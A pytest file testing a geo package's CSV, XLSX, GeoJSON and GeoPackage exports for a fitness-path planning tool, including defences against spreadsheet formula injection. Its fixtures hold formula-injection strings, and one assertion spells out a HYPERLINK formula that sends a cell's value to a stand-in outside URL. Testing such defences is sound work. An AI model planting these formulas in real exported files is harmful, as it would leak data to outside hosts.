"""Tests for geo.render.export: files open right in spreadsheets, never run formulas, and round-trip."""

from __future__ import annotations

import hashlib
import json
import re

import geopandas as gpd
import numpy as np
import openpyxl
import pandas as pd
import pytest
from geopandas.testing import assert_geodataframe_equal
from shapely.geometry import MultiPolygon, Point, Polygon

import geo
from geo.data.cells import spreadsheet_text, xlsx_text
from geo.i18n import column_label
from geo.render import export, provenance
from tests import hostile
from tests.helpers import INVISIBLE as _INVISIBLE
from tests.helpers import csv_rows, workbook_cells

RISKY_NAMES = ['=HYPERLINK("x")', "+86 772", "-老旧小区", "@sum", "\tTab", "\rCR"]


def priority_list() -> pd.DataFrame:
    """A plain priority list: Chinese and risky names, a negative number, nullable columns."""
    return pd.DataFrame(
        {
            "program": pd.Series(["新建"] * 6 + ["更新"] * 2, dtype="string"),
            "rank": pd.Series([1, 2, 3, 4, 5, 6, 1, None], dtype="Int64"),
            "community_id": pd.Series([f"C00{i}" for i in range(1, 9)], dtype="string"),
            "name": pd.Series(RISKY_NAMES + ["柳东社区", None], dtype="string"),
            "district_name": pd.Series(
                ["城中区", "鱼峰区", "柳南区", "柳北区", "柳江区", "城中区", "鱼峰区", None], dtype="string"
            ),
            "priority_score": [0.9, 0.8, 0.7, 0.6, 0.5, 0.4, 0.3, np.nan],
            "money_left_cny": [-1500.5, 0.0, 10.0, 20.0, 30.0, 40.0, 50.0, 60.0],
            "eligible": pd.Series([True, False, True, True, True, True, None, False], dtype="boolean"),
            "served_communities": [True, False, True, False, True, False, True, False],
            "reasons": [["no_space"], [], None, ["parking", "no_space"], [], [], [], []],
        }
    )


def plan_points() -> gpd.GeoDataFrame:
    """Fitness-path sets as points, with Chinese names and missing values of every dtype."""
    return gpd.GeoDataFrame(
        {
            "program": pd.Series(["新建", "新建", "更新"], dtype="string"),
            "rank": pd.Series([1, None, 3], dtype="Int64"),
            "name": pd.Series(["柳东社区", None, '=HYPERLINK("x")'], dtype="string"),
            "eligible": pd.Series([True, None, False], dtype="boolean"),
            "cost_cny": [120000.0, np.nan, 0.1 + 0.2],
            "population_newly_served": pd.Series([3500, 0, None], dtype="Int64"),
        },
        geometry=[Point(109.41234567890123, 24.3), Point(109.42, 24.31), None],
        crs="EPSG:4326",
    )


def plan_polygons() -> gpd.GeoDataFrame:
    """Communities as a square, a two-part MultiPolygon and a square with a hole."""
    square = Polygon([(109.40, 24.30), (109.41, 24.30), (109.41, 24.31), (109.40, 24.31)])
    two_parts = MultiPolygon(
        [
            Polygon([(109.42, 24.30), (109.43, 24.30), (109.43, 24.31), (109.42, 24.31)]),
            Polygon([(109.44, 24.30), (109.45, 24.30), (109.45, 24.31)]),
        ]
    )
    holed = Polygon(
        [(109.46, 24.32), (109.48, 24.32), (109.48, 24.34), (109.46, 24.34)],
        [[(109.465, 24.325), (109.47, 24.325), (109.47, 24.33), (109.465, 24.33)]],
    )
    return gpd.GeoDataFrame(
        {
            "community_id": pd.Series(["C001", "045203", "C003"], dtype="string"),
            "name": pd.Series(["柳东社区", "河西社区", "Riverside 小区"], dtype="string"),
            "district_name": pd.Series(["城中区", None, "柳南区"], dtype="string"),
            "population": pd.Series([3500, None, 120], dtype="Int64"),
            "priority_score": [0.75, np.nan, -0.25],
            "sports_land_planned": pd.Series([None, True, False], dtype="boolean"),
        },
        geometry=[square, two_parts, holed],
        crs="EPSG:4326",
    )


# --------------------------------------------------------------------------- CSV


def read_back(path, lang="zh") -> pd.DataFrame:
    """A CSV as Excel would show it, under internal column names (headers mapped back)."""
    table = pd.read_csv(path, encoding="utf-8-sig", keep_default_na=False, na_values=[""])
    internal = {column_label(c, lang): c for c in list(priority_list().columns) + list(plan_points().columns)}
    return table.rename(columns=internal)


def test_csv_starts_with_bom_and_has_chinese_headers(tmp_path):
    path = export.to_csv(priority_list(), tmp_path / "plan.csv")
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")
    table = pd.read_csv(path, encoding="utf-8-sig")
    assert list(table.columns) == [column_label(c, "zh") for c in priority_list().columns]
    assert {"小区编号", "名称", "区县"} <= set(table.columns)
    assert table["区县"].tolist()[:2] == ["城中区", "鱼峰区"]


def test_csv_neutralises_formulas_but_not_numbers(tmp_path):
    table = read_back(export.to_csv(priority_list(), tmp_path / "plan.csv"))
    assert table["name"].tolist()[:6] == ["'" + name for name in RISKY_NAMES]
    assert table["name"].iloc[6] == "柳东社区"
    assert pd.isna(table["name"].iloc[7])
    money = table["money_left_cny"]  # whole yuan (issue 13), a number not text
    assert pd.api.types.is_integer_dtype(money.dtype)
    assert money.iloc[0] == -1500


def test_csv_values_booleans_lists_and_missing(tmp_path):
    table = read_back(export.to_csv(priority_list(), tmp_path / "plan.csv"))
    assert table["eligible"].tolist() == ["是", "否", "是", "是", "是", "是", np.nan, "否"]
    assert table["served_communities"].tolist()[:2] == ["是", "否"]
    assert table["rank"].tolist()[:7] == [1, 2, 3, 4, 5, 6, 1] and pd.isna(table["rank"].iloc[7])
    assert table["reasons"].tolist()[:4] == ["no_space", np.nan, np.nan, "parking; no_space"]
    assert table["priority_score"].iloc[0] == 0.9 and pd.isna(table["priority_score"].iloc[7])


def test_csv_in_english(tmp_path):
    path = export.to_csv(priority_list(), tmp_path / "plan.csv", lang="en")
    assert {"Community ID", "Name", "District"} <= set(pd.read_csv(path, encoding="utf-8-sig").columns)
    table = read_back(path, lang="en")
    assert table["eligible"].tolist()[:2] == ["Yes", "No"]


def test_csv_of_a_geodataframe_writes_longitude_latitude(tmp_path):
    table = pd.read_csv(export.to_csv(plan_points(), tmp_path / "points.csv"), encoding="utf-8-sig")
    assert list(table.columns[-2:]) == ["经度", "纬度"]
    assert table["经度"].iloc[0] == 109.412346 and table["纬度"].iloc[0] == 24.3
    assert pd.isna(table["经度"].iloc[2])

    polygons = pd.read_csv(export.to_csv(plan_polygons(), tmp_path / "polygons.csv", lang="en"), encoding="utf-8-sig")
    inside = [
        poly.contains(Point(x, y))
        for poly, x, y in zip(plan_polygons().geometry, polygons["Longitude"], polygons["Latitude"])
    ]
    assert all(inside)


def test_csv_rejects_a_second_longitude(tmp_path):
    frame = plan_points().assign(longitude=1.0)
    with pytest.raises(ValueError, match="longitude"):
        export.to_csv(frame, tmp_path / "points.csv")


# --------------------------------------------------------------------------- XLSX


def write_workbook(tmp_path, lang="zh"):
    data = tmp_path / "communities.gpkg"
    data.write_bytes(b"some data")
    frame = priority_list()
    sheets = {"新建": frame[frame["program"] == "新建"], "更新": frame[frame["program"] == "更新"]}
    parameters = {
        "budget_cny": 2_000_000,
        "walk_radius_m": 500.0,
        "weights": {"population": 0.5, "share_60plus": 0.3},
        "programs": ["新建", "更新"],
        "exclude_parking": True,
        "data_sha256": provenance.file_sha256(data),
        "software_version": provenance.software_version(),
    }
    path = export.to_xlsx(sheets, tmp_path / "plan.xlsx", parameters, lang=lang)
    return openpyxl.load_workbook(path), parameters


def test_xlsx_sheets_header_filter_and_widths(tmp_path):
    workbook, _ = write_workbook(tmp_path)
    assert workbook.sheetnames == ["新建", "更新", "参数"]
    sheet = workbook["新建"]
    headers = [cell.value for cell in sheet[1]]
    assert headers == [column_label(c, "zh") for c in priority_list().columns]
    assert all(cell.font.bold for cell in sheet[1])
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:J7"  # 10 columns, header + 6 rows
    assert workbook["更新"].auto_filter.ref == "A1:J3"
    widths = {
        c: sheet.column_dimensions[openpyxl.utils.get_column_letter(i)].width
        for i, c in enumerate(priority_list().columns, start=1)
    }
    assert all(6 <= width <= 60 for width in widths.values())
    assert widths["name"] > widths["rank"]


def test_xlsx_width_counts_chinese_double(tmp_path):
    frame = pd.DataFrame({"a": ["abcdefghijklmnopqrst"], "b": ["柳州市城中区柳东社区第一小区健身广场"]})
    path = export.to_xlsx({"s": frame}, tmp_path / "w.xlsx", {})
    sheet = openpyxl.load_workbook(path)["s"]
    assert sheet.column_dimensions["A"].width == 22  # 20 characters + 2
    assert sheet.column_dimensions["B"].width == 38  # 18 CJK characters × 2 + 2


def test_xlsx_cells_numbers_booleans_and_formulas(tmp_path):
    workbook, _ = write_workbook(tmp_path)
    sheet = workbook["新建"]
    rows = list(sheet.iter_rows(min_row=2, values_only=True))
    headers = list(priority_list().columns)
    column = {h: [row[i] for row in rows] for i, h in enumerate(headers)}
    assert column["rank"] == [1, 2, 3, 4, 5, 6]
    assert column["money_left_cny"][0] == -1500  # whole yuan (issue 13)
    assert column["eligible"][:2] == ["是", "否"]
    assert column["reasons"][:4] == ["no_space", None, None, "parking; no_space"]
    # .xlsx is XML, whose readers turn CR into LF: the cell still starts with "'"
    assert column["name"] == ["'" + name.replace("\r", "\n") for name in RISKY_NAMES]
    formula = sheet.cell(row=2, column=headers.index("name") + 1)
    assert formula.data_type == "s" and formula.value == '\'=HYPERLINK("x")'
    money = sheet.cell(row=2, column=headers.index("money_left_cny") + 1)
    assert money.data_type == "n"
    update = list(workbook["更新"].iter_rows(min_row=2, values_only=True))
    assert update[1][headers.index("rank")] is None and update[1][headers.index("name")] is None


def test_xlsx_parameters_sheet(tmp_path):
    workbook, _parameters = write_workbook(tmp_path)
    sheet = workbook["参数"]
    assert [cell.value for cell in sheet[1]] == ["参数", "值"]
    assert sheet.freeze_panes == "A2"
    values = dict(sheet.iter_rows(min_row=2, values_only=True))
    # Known keys by their labels (issue 13); a key of the caller's own stays as it is.
    assert values["预算（元）"] == 2_000_000 and values["步行服务半径（米）"] == 500
    assert values["weights.population"] == 0.5 and values["weights.share_60plus"] == 0.3
    assert values["programs"] == "新建、更新"
    assert values["exclude_parking"] == "是"
    assert re.fullmatch(r"[0-9a-f]{64}", values["数据文件 SHA-256"])
    assert values["数据文件 SHA-256"] == hashlib.sha256(b"some data").hexdigest()
    assert values["软件版本"] == geo.__version__


def test_xlsx_in_english(tmp_path):
    workbook, _ = write_workbook(tmp_path, lang="en")
    assert workbook.sheetnames[-1] == "Parameters"
    assert [cell.value for cell in workbook["Parameters"][1]] == ["Parameter", "Value"]
    assert "Community ID" in [cell.value for cell in workbook["新建"][1]]


def test_xlsx_sheet_names_follow_excel_rules(tmp_path):
    frame = pd.DataFrame({"a": [1]})
    names = ["a/b", "x" * 40, "X" * 40, "参数", "history", "'quoted'", "[]"]
    path = export.to_xlsx(dict.fromkeys(names, frame), tmp_path / "n.xlsx", {})
    sheet_names = openpyxl.load_workbook(path).sheetnames
    assert sheet_names[0] == "a_b"
    # Shortened visibly, never cut mid-name without a sign (issue 13)
    assert sheet_names[1] == "x" * 30 + "…" and sheet_names[2] == "X" * 26 + "… (2)"
    assert sheet_names[3] == "参数 (2)" and sheet_names[-1] == "参数"
    assert sheet_names[4] == "history (2)" and sheet_names[5] == "quoted" and sheet_names[6] == "__"
    assert len({name.casefold() for name in sheet_names}) == len(sheet_names)


# --------------------------------------------------------------------------- GeoJSON and GeoPackage


@pytest.mark.parametrize("frame", [plan_points(), plan_polygons()], ids=["points", "multipolygons"])
def test_geojson_round_trip(tmp_path, frame):
    path = export.to_geojson(frame, tmp_path / "plan.geojson")
    assert_geodataframe_equal(export.read_geojson(path), frame, check_less_precise=False)
    text = path.read_text(encoding="utf-8")
    assert "柳东社区" in text and "\\u" not in text


@pytest.mark.parametrize("frame", [plan_points(), plan_polygons()], ids=["points", "multipolygons"])
def test_gpkg_round_trip(tmp_path, frame):
    path = export.to_gpkg(frame, tmp_path / "plan.gpkg")
    assert_geodataframe_equal(export.read_gpkg(path), frame)


@pytest.mark.parametrize("suffix", [".geojson", ".gpkg"])
def test_machine_formats_join_lists_and_type_plain_columns(tmp_path, suffix):
    frame = (
        plan_points()
        .assign(
            reasons=[["parking", "no_space"], [], None],
            served=[True, False, True],
            households=np.array([10, 20, 30], dtype="int64"),
        )
        .set_index(pd.Index([7, 8, 9]))
    )
    path = export.export(frame, tmp_path / f"plan{suffix}")
    back = export.read_geojson(path) if suffix == ".geojson" else export.read_gpkg(path)
    expected = plan_points().assign(
        reasons=pd.Series(["parking;no_space", "", None], dtype="string"),
        served=pd.Series([True, False, True], dtype="boolean"),
        households=pd.Series([10, 20, 30], dtype="Int64"),
    )
    expected = expected[[c for c in expected.columns if c != "geometry"] + ["geometry"]]
    assert_geodataframe_equal(back, expected)
    assert back["reasons"].iloc[0].split(";") == ["parking", "no_space"]


def test_geo_formats_need_a_geodataframe_in_wgs84(tmp_path):
    with pytest.raises(ValueError, match=r"\.csv or \.xlsx"):
        export.to_geojson(priority_list(), tmp_path / "plan.geojson")
    with pytest.raises(ValueError, match=r"to_crs\('EPSG:4326'\)"):
        export.to_gpkg(plan_points().to_crs("EPSG:32649"), tmp_path / "plan.gpkg")


# --------------------------------------------------------------------------- export


def test_export_chooses_format_by_suffix(tmp_path):
    export.export(priority_list(), tmp_path / "plan.CSV")
    assert (tmp_path / "plan.CSV").read_bytes().startswith(b"\xef\xbb\xbf")
    export.export(plan_points(), tmp_path / "plan.json")
    assert json.loads((tmp_path / "plan.json").read_text(encoding="utf-8"))["type"] == "FeatureCollection"
    export.export(priority_list(), tmp_path / "plan.xlsx", parameters={"budget_cny": 1})
    assert openpyxl.load_workbook(tmp_path / "plan.xlsx").sheetnames == ["plan", "参数"]


def test_export_stacks_sheets_for_single_table_formats(tmp_path):
    points = plan_points()
    sheets = {"新建": points.iloc[:2], "更新": points.iloc[2:].drop(columns="program")}
    back = export.read_gpkg(export.export(sheets, tmp_path / "plan.gpkg"))
    assert back["program"].tolist() == ["新建", "新建", "更新"]
    assert_geodataframe_equal(back, points)
    table = read_back(export.export(sheets, tmp_path / "plan.csv", lang="en"), lang="en")
    assert table["program"].tolist() == ["新建", "新建", "更新"]


def test_export_unknown_suffix(tmp_path):
    with pytest.raises(ValueError, match=r"unsupported suffix '\.xls'.*\.csv, \.xlsx, \.geojson, \.json, \.gpkg"):
        export.export(priority_list(), tmp_path / "plan.xls")
    with pytest.raises(ValueError, match="unsupported suffix"):
        export.export(priority_list(), tmp_path / "plan")


def test_export_xlsx_needs_parameters(tmp_path):
    with pytest.raises(ValueError, match="parameters="):
        export.export(priority_list(), tmp_path / "plan.xlsx")


def test_file_sha256_and_version(tmp_path):
    path = tmp_path / "data.bin"
    path.write_bytes(b"abc")
    assert provenance.file_sha256(path) == "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad"
    assert provenance.software_version() == geo.__version__


def test_dates_render_as_dates(tmp_path):
    frame = pd.DataFrame(
        {
            "application_date": pd.to_datetime(["2024-03-01", None]),
            "t": pd.to_datetime(["2024-03-01 10:30", "2024-01-02 00:00"]),
        }
    )
    table = pd.read_csv(export.to_csv(frame, tmp_path / "d.csv"), encoding="utf-8-sig", dtype=str)
    assert table.iloc[:, 0].tolist() == ["2024-03-01", np.nan]
    assert table.iloc[:, 1].tolist() == ["2024-03-01 10:30:00", "2024-01-02 00:00:00"]
    sheet = openpyxl.load_workbook(export.to_xlsx({"d": frame}, tmp_path / "d.xlsx", {}))["d"]
    assert sheet["A2"].is_date and sheet["A2"].number_format == "yyyy-mm-dd" and sheet["A3"].value is None
    assert sheet["B2"].is_date and sheet["B2"].value.hour == 10


def test_geojson_keeps_date_like_text_as_text(tmp_path):
    # Regression: GDAL's GeoJSON reader turns "2024-03-01" into a date unless told not to.
    frame = plan_points().assign(note=pd.Series(["2024-03-01", "10:30:00", None], dtype="string"))
    back = export.read_geojson(export.to_geojson(frame, tmp_path / "d.geojson"))
    assert_geodataframe_equal(back, frame[[c for c in frame.columns if c != "geometry"] + ["geometry"]])


# ----------------------------------------------------------------- hostile text through every spreadsheet door


def hostile_frame() -> pd.DataFrame:
    """Every hostile string as a name, negative numbers, and a user column headed by each formula."""
    names = hostile.ALL + ["柳东社区", "#N/A"]
    frame = pd.DataFrame(
        {
            "community_id": pd.Series([f"C{i:03d}" for i in range(len(names))], dtype="string"),
            "name": pd.Series(names, dtype="string"),
            "population": pd.Series([-i for i in range(len(names))], dtype="Int64"),
            "eligible": pd.Series([i % 2 == 0 for i in range(len(names))], dtype="boolean"),
        }
    )
    for header in hostile.FORMULA + hostile.TEXT[:2]:
        frame[header] = pd.Series(names[::-1], dtype=object)
    return frame


def test_csv_export_of_hostile_text(tmp_path):
    frame = hostile_frame()
    path = export.export(frame, tmp_path / "plan.csv")  # the app's download calls export()
    rows = csv_rows(path.read_bytes())
    hostile_headers = hostile.FORMULA + hostile.TEXT[:2]
    assert rows[0] == ["小区编号", "名称", "人口", column_label("eligible", "zh")] + [
        spreadsheet_text(h) for h in hostile_headers
    ]
    assert rows[0][4 + hostile.FORMULA.index(hostile.FORMULA[6])].startswith("'=HYPERLINK(")
    body = rows[1:]
    assert [row[1] for row in body] == [spreadsheet_text(name) for name in frame["name"]]
    assert [row[1] for row in body][-2:] == ["柳东社区", "#N/A"]
    assert [row[2] for row in body] == [-float(i) for i in range(len(frame))]  # numbers stay numbers
    assert [row[3] for row in body][:2] == ["是", "否"]
    assert [row[4] for row in body] == [spreadsheet_text(name) for name in frame["name"][::-1]]
    for name, written in zip(frame["name"], (row[1] for row in body)):
        if name not in hostile.FORMULA and name not in hostile.TEXT[:2]:
            assert written == name  # template, markup and Markdown text is not a formula: unchanged


def test_xlsx_export_of_hostile_text(tmp_path):
    frame = hostile_frame()
    sheet_names = hostile.FORMULA + hostile.TEXT[:2]
    parameters = {**{name: name for name in hostile.ALL}, "program": {"=1+2": "@SUM(9)", "-x": -5}}
    path = export.export(dict.fromkeys(sheet_names, frame), tmp_path / "plan.xlsx", parameters=parameters)
    sheets = workbook_cells(path.read_bytes())  # fails on any formula or error cell

    titles = list(sheets)
    assert len(titles) == len(sheet_names) + 1 and titles[-1] == "参数"
    assert not any(ch in title for title in titles for ch in _INVISIBLE + ["\t", "\r", "\n"])
    assert titles[0] == "=1+2" and titles[6].startswith("=HYPERLINK(") and titles[-3:-1] == ["小区名称", "右到左"]

    for title in titles[:-1]:
        rows = sheets[title]
        assert rows[0] == ["小区编号", "名称", "人口", column_label("eligible", "zh")] + [
            xlsx_text(h) for h in sheet_names
        ]
        assert [row[1] for row in rows[1:]] == [xlsx_text(name) for name in frame["name"]]
        assert [row[2] for row in rows[1:]] == [-i for i in range(len(frame))]
    assert sheets["=1+2"][1 + hostile.ALL.index(hostile.FORMULA[6])][1] == (
        "'=HYPERLINK(\"" + hostile.OUTSIDE_URL + '?d="&C2,"详情")'
    )

    written = {row[0]: row[1] for row in sheets["参数"][1:]}
    expected = {xlsx_text(name): xlsx_text(name) for name in hostile.ALL}
    expected.update({"program.=1+2": "program.=1+2", "program.-x": "program.-x"})
    assert {key: written[key] for key in expected} == {**expected, "program.=1+2": "'@SUM(9)", "program.-x": -5}


# ---------------------------------------------------------------- names follow the export's language (issue 11)

CJK = re.compile(r"[\u3000-\u303f\u3400-\u9fff\uf900-\ufaff\uff00-\uffef]")


@pytest.fixture(scope="module")
def sample_districts():
    from geo.config import DEFAULT_DATA_PATH
    from geo.pipeline import load_city

    return load_city(DEFAULT_DATA_PATH).districts


def cli_export(tmp_path, *args: str) -> bytes:
    from geo.cli import main

    out = tmp_path / f"out{args[-1]}"
    assert main([*args[:-1], "--out", str(out)]) == 0
    return out.read_bytes()


def tables_of(data: bytes, suffix: str) -> dict[str, list[list]]:
    return {"csv": csv_rows(data)} if suffix == ".csv" else workbook_cells(data)


def chinese_cells(rows: list[list]) -> dict[str, set]:
    """Header -> the cells below it that hold a CJK character."""
    header, *body = rows
    found: dict[str, set] = {}
    for row in body:
        for column, cell in zip(header, row):
            if isinstance(cell, str) and CJK.search(cell):
                found.setdefault(column, set()).add(cell)
    return found


def column_values(rows: list[list], header: str) -> set:
    index = rows[0].index(header)
    return {row[index] for row in rows[1:]}


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_english_plan_export_has_no_chinese_of_ours(tmp_path, suffix, sample_districts):
    """Programme and district names in English; only the communities' own names (data) stay Chinese."""
    from geo.config import load_config

    config = load_config()
    tables = tables_of(cli_export(tmp_path, "plan", "--lang", "en", suffix), suffix)
    parameters = tables.pop("Parameters", None)
    assert suffix == ".csv" or parameters is not None
    english_districts = set(sample_districts["district_name_en"])
    for rows in tables.values():
        # Names are data; "What it serves" names communities in an English sentence ("Community X serves …").
        assert set(chinese_cells(rows)) == {"Name", "What it serves"}
        served = column_values(rows, "What it serves")
        assert served and all(cell.startswith(("Community ", "Site ")) for cell in served)
        assert column_values(rows, "Programme name") <= {p.name_en for p in config.programs}
        assert column_values(rows, "District") <= english_districts
    if parameters is not None:  # the configuration's record names both names of each programme, labelled
        rows = [["Parameter", "Value"], *parameters[1:]]
        assert {row[0] for row in rows[1:] if isinstance(row[1], str) and CJK.search(row[1])} == {
            f"{p.name_en} · Chinese name" for p in config.programs
        }


def test_chinese_plan_export_keeps_chinese_names(tmp_path, sample_districts):
    from geo.config import load_config

    rows = csv_rows(cli_export(tmp_path, "plan", ".csv"))
    assert column_values(rows, column_label("program_name", "zh")) == {p.name_zh for p in load_config().programs}
    assert column_values(rows, column_label("district_name", "zh")) <= set(sample_districts["district_name"])


def test_english_eligibility_export_has_no_chinese_of_ours(tmp_path, sample_districts):
    tables = workbook_cells(cli_export(tmp_path, "eligibility", "--lang", "en", ".xlsx"))
    parameters = tables.pop("Parameters")
    (rows,) = tables.values()
    assert len(rows) > 1000
    assert set(chinese_cells(rows)) == {"Name"}
    assert column_values(rows, "District") == set(sample_districts["district_name_en"])
    assert not chinese_cells(parameters)


def test_chinese_eligibility_export_keeps_chinese_district_names(tmp_path, sample_districts):
    rows = csv_rows(cli_export(tmp_path, "eligibility", ".csv"))
    assert column_values(rows, column_label("district_name", "zh")) == set(sample_districts["district_name"])


def test_plan_sheets_name_programmes_and_districts_in_the_language(sample_districts):
    from geo.config import DEFAULT_DATA_PATH, load_config
    from geo.pipeline import load_city
    from geo.plan import plan_sheets, run_plan

    city, config = load_city(DEFAULT_DATA_PATH), load_config()
    plan = run_plan(city.communities, city.fitness_paths, config, ["city"], "rank", city.applications)
    (english,) = plan_sheets(plan, "en", city.districts).values()
    (chinese,) = plan_sheets(plan, "zh", city.districts).values()
    assert set(english["program_name"]) == {config.program("city").name_en}
    assert set(chinese["program_name"]) == {config.program("city").name_zh}
    assert set(english["district_name"]) <= set(sample_districts["district_name_en"])
    assert list(chinese["district_name"]) == list(plan.selected["district_name"])  # the data's own, unchanged
    assert list(english["name"]) == list(chinese["name"])  # community names are data: never translated
    (unnamed,) = plan_sheets(plan, "en").values()  # no districts layer: programme names still follow
    assert set(unnamed["program_name"]) == {config.program("city").name_en}
